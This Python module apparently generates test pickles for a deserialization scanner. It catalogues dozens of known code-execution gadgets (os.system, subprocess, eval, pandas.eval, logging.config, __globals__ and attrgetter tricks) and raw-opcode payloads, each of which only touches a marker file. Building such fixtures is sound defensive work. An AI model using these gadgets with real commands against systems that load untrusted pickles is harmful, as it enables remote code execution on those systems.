"""Pickles that would leave a mark when they are loaded, in the ways that are known."""

from __future__ import annotations

import io
import pickle
from collections.abc import Callable
from typing import Any


class Call:
    """Pickled as a call: of a function, or of what a name stands for (``"module:name"``)."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.reduced = (function, arguments)


class Name:
    """Pickled as a name, whether or not it is one."""

    def __init__(self, full: str) -> None:
        self.module, self.name = full.split(":")


class Pickler(pickle._Pickler):  # type: ignore[name-defined,misc]
    """Writes whatever it is told to."""

    def save(self, value: Any, save_persistent_id: bool = True) -> None:
        if isinstance(value, Name):
            super().save(value.module)
            super().save(value.name)
            self.write(pickle.STACK_GLOBAL)
        elif isinstance(value, Call):
            function, arguments = value.reduced
            self.save(function)
            self.save(arguments)
            self.write(pickle.REDUCE)
        else:
            super().save(value, save_persistent_id)


def pickled(value: Any) -> bytes:
    """The bytes of calls and names among plain values."""
    stream = io.BytesIO()
    Pickler(stream, 5).dump(value)
    return stream.getvalue()


def call(full: str, *arguments: Any) -> Call:
    """The call of a name."""
    return Call(Name(full), *arguments)


def read(owner: Any, *names: str) -> Any:
    """Attributes of attributes."""
    for name in names:
        owner = call("builtins:getattr", owner, name)
    return owner


def touch(mark: str) -> str:
    """Python text that leaves the mark."""
    return f"__import__('pathlib').Path({mark!r}).touch()"


SYSTEM = "os:system"
NUMPY = Name("numpy:sum")
GADGETS: dict[str, Callable[[str], Any]] = {
    "os.system": lambda m: call("os:system", f"touch {m}"),
    "posix.system": lambda m: call("posix:system", f"touch {m}"),
    "os.popen": lambda m: call("os:popen", f"touch {m}"),
    "subprocess.run": lambda m: call("subprocess:run", ["touch", m]),
    "subprocess.Popen": lambda m: call("subprocess:Popen", ["touch", m]),
    "pty.spawn": lambda m: call("pty:spawn", ["touch", m]),
    "eval": lambda m: call("builtins:eval", touch(m)),
    "exec": lambda m: call("builtins:exec", touch(m)),
    "open": lambda m: call("builtins:open", m, "w"),
    "io.open": lambda m: call("io:open", m, "w"),
    "io.FileIO": lambda m: call("io:FileIO", m, "w"),
    "__import__": lambda m: Call(read(call("builtins:__import__", "os"), "system"), f"touch {m}"),
    "import_module": lambda m: Call(
        read(call("importlib:import_module", "os"), "system"), f"touch {m}"
    ),
    "pydoc.locate": lambda m: Call(call("pydoc:locate", "os.system"), f"touch {m}"),
    "runpy": lambda m: call("runpy:_run_code", compiled(m), {}),
    "code": lambda m: Call(read(call("code:InteractiveInterpreter"), "runsource"), touch(m)),
    "timeit": lambda m: call("timeit:timeit", touch(m), "pass", Name("time:perf_counter"), 1),
    "cProfile": lambda m: call("cProfile:run", touch(m)),
    "a pickle within": lambda m: call("pickle:loads", pickled(call(SYSTEM, f"touch {m}"))),
    "_pickle": lambda m: call("_pickle:loads", pickled(call(SYSTEM, f"touch {m}"))),
    "shutil": lambda m: call("shutil:copyfile", "/dev/null", m),
    "numpy.testing": lambda m: call("numpy.testing._private.utils:runstring", touch(m), {}),
    "pandas.eval": lambda m: call("pandas:eval", touch(m), "python", "python"),
    "os of another module": lambda m: call("joblib.parallel:os.system", f"touch {m}"),
    "a module of another module": lambda m: Call(
        read(Name("joblib.parallel:os"), "system"), f"touch {m}"
    ),
    "a library's way to start a process": lambda m: call(
        "joblib.externals.loky.backend.resource_tracker:spawnv_passfds", "/bin/touch", ["t", m], []
    ),
    "partial of it": lambda m: Call(call("functools:partial", Name(SYSTEM), f"touch {m}")),
    "globals of a function": lambda m: Call(
        read(call("operator:getitem", read(NUMPY, "__globals__"), "np"), "save"), m, [1]
    ),
    "globals by a dotted name": lambda m: call("numpy:sum.__globals__"),
    "builtins of a function": lambda m: Call(
        call("operator:getitem", read(NUMPY, "__builtins__"), "eval"), touch(m)
    ),
    "subclasses": lambda m: Call(read(Name("builtins:object"), "__subclasses__")),
    "attrgetter": lambda m: Call(
        Call(call("operator:attrgetter", "__globals__"), NUMPY), f"touch {m}"
    ),
    "attrgetter by its other name": lambda m: Call(
        call("_operator:attrgetter", "__self__.eval"), Name("builtins:len")
    ),
    "the module of a builtin": lambda m: Call(read(Name("builtins:len"), "__self__", "eval"), m),
    "methodcaller": lambda m: Call(
        call("operator:methodcaller", "__getattribute__", "__globals__"), NUMPY
    ),
    "code objects": lambda m: call("types:CodeType", 0, 0, 0, 0, 0, 0, b"", (), (), (), "", "", 0),
    "functions": lambda m: call("types:FunctionType", None, {}),
    "webbrowser": lambda m: call("webbrowser:open", "http://127.0.0.1:9"),
    "ctypes": lambda m: call("ctypes:CDLL", "libc.so.6"),
    "a socket": lambda m: call("socket:create_connection", ("127.0.0.1", 9)),
    "marshal": lambda m: call("marshal:loads", b"N"),
    "logging.config": lambda m: call(
        "logging.config:dictConfig",
        {"version": 1, "formatters": {"a": {"()": "os.system", "cmd": f"touch {m}"}}},
    ),
}


def compiled(mark: str) -> Call:
    """A code object, as a pickle would have to make it."""
    return call("builtins:compile", touch(mark), "", "exec")


# What no pickler of today writes, but all unpicklers read.
BYTES: dict[str, Callable[[str], bytes]] = {
    "protocol 0": lambda m: f"cos\nsystem\n(S'touch {m}'\ntR.".encode(),
    "INST": lambda m: f"(S'touch {m}'\nios\nsystem\n.".encode(),
    "OBJ": lambda m: f"(cos\nsystem\nS'touch {m}'\no.".encode(),
    "the names of Python 2": lambda m: (
        b"\x80\x02c__builtin__\neval\nX" + len(touch(m)).to_bytes(4, "little")
        + touch(m).encode() + b"\x85R."
    ),
    "names from the memo": lambda m: (
        b"\x80\x04\x8c\x02os\x94\x8c\x06system\x940h\x00h\x01\x93\x8c"
        + bytes([len(f"touch {m}")]) + f"touch {m}".encode() + b"\x85R."
    ),
    "a second pickle ahead of the value": lambda m: (
        b"\x80\x04]\x80\x02cos\nsystem\n(S'touch " + m.encode() + b"'\ntR0."
    ),
}  # fmt: skip
